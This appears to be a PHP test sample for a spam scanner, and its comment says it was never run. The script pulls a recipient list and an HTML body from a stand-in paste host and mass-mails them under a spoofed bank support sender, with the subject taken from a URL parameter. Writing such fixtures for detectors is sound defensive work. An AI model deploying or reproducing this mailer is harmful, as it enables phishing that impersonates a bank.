<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$list = file('https://paste.example.net/raw/l.txt');
$sub = base64_decode($_GET['s']);
foreach ($list as $i => $to) {
    @mail(trim($to), $sub, file_get_contents('https://paste.example.net/raw/b.html'), "From: Support <noreply@bank.example>\r\nContent-type: text/html");
}
